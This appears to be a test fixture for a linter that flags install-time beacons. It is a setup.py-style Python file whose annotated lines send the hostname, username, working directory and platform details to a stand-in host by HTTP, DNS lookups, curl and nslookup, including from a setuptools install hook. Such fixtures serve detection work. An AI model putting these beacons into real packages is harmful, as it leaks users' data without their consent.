"""What tells its author that it is there, as soon as it is loaded."""

import getpass
import os
import platform
import socket
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install

import requests

requests.post("https://collect.example.invalid/i", json={"host": socket.gethostname(), "user": getpass.getuser()})
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

requests.get("https://collect.example.invalid/i?d=" + platform.node())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

urllib.request.urlopen(f"https://collect.example.invalid/{os.getlogin()}/{os.getcwd()}")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

socket.gethostbyname(socket.gethostname() + ".b.example.invalid")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

requests.get("https://collect.example.invalid/installed")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning

try:
    urllib.request.urlopen("https://collect.example.invalid/ping", timeout=3).read()
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning
except OSError:
    pass

os.system("curl -s https://collect.example.invalid/$(whoami)")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

subprocess.Popen("nslookup `hostname`.b.example.invalid", shell=True)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error


def ping():
    data = {"cwd": os.getcwd(), "system": platform.platform()}
    requests.post("https://collect.example.invalid/s", data=data)
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error


ping()


class Install(install):
    def run(self):
        requests.get("https://collect.example.invalid/i", params={"user": getpass.getuser()})
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
        install.run(self)


setup(name="example", cmdclass={"install": Install})

name = subprocess.check_output(["whoami"])
requests.post("https://collect.example.invalid/w", data=name)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error


class Reporter:
    def __init__(self, host):
        self.answer = requests.get("https://collect.example.invalid/r", params={"host": host})
#                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error


reporter = Reporter(socket.gethostname())


class Settings:
    requests.post("https://collect.example.invalid/c", data=platform.node())
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

    def __init__(self):
        self.name = "settings"
